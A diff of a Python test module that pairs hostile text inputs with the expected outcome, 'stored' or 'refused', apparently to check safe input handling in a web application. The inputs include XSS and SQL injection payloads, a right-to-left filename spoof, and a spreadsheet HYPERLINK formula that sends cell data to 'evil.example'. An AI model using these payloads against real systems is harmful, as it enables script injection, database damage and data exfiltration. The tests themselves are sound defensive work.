@@ -18,19 +18,19 @@ DOCX_CONTENT_TYPES = (
 
 XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 
-#: Texts HTML forms and JSON can both carry; each may be refused or must be stored exactly.
+#: Texts HTML forms and JSON can both carry, each with what becomes of it: refused, or stored exactly.
 TEXTS = [
-    pytest.param(XSS, id="xss"),
-    pytest.param('"><svg onload=alert(1)>', id="xss-attribute"),
-    pytest.param("Robert'); DROP TABLE workflows_application;--", id="sql-drop"),
-    pytest.param("' OR '1'='1' --", id="sql-or"),
-    pytest.param("A" * 1_000_000, id="one-megabyte"),
-    pytest.param("before\x00after", id="nul"),
-    pytest.param("\u202etxt.exe", id="rtl-override"),
-    pytest.param("Z\u0351\u0334\u0327a\u0358\u0315l\u0360g\u0489o", id="combining-marks"),
-    pytest.param("Seoul \U0001f3d9\ufe0f \U0001f469\U0001f3fd\u200d\U0001f4bb", id="emoji"),
-    pytest.param('=HYPERLINK("http://evil.example/?d="&A2, "x")', id="formula"),
-    pytest.param("{{ request.user }} {% debug %}", id="template-syntax"),
+    pytest.param(XSS, "stored", id="xss"),
+    pytest.param('"><svg onload=alert(1)>', "stored", id="xss-attribute"),
+    pytest.param("Robert'); DROP TABLE workflows_application;--", "stored", id="sql-drop"),
+    pytest.param("' OR '1'='1' --", "stored", id="sql-or"),
+    pytest.param("A" * 1_000_000, "refused", id="one-megabyte"),
+    pytest.param("before\x00after", "refused", id="nul"),
+    pytest.param("\u202etxt.exe", "stored", id="rtl-override"),
+    pytest.param("Z\u0351\u0334\u0327a\u0358\u0315l\u0360g\u0489o", "stored", id="combining-marks"),
+    pytest.param("Seoul \U0001f3d9\ufe0f \U0001f469\U0001f3fd\u200d\U0001f4bb", "stored", id="emoji"),
+    pytest.param('=HYPERLINK("http://evil.example/?d="&A2, "x")', "stored", id="formula"),
+    pytest.param("{{ request.user }} {% debug %}", "stored", id="template-syntax"),
 ]
 
 #: Only JSON carries these (a browser cannot encode them); always refused.
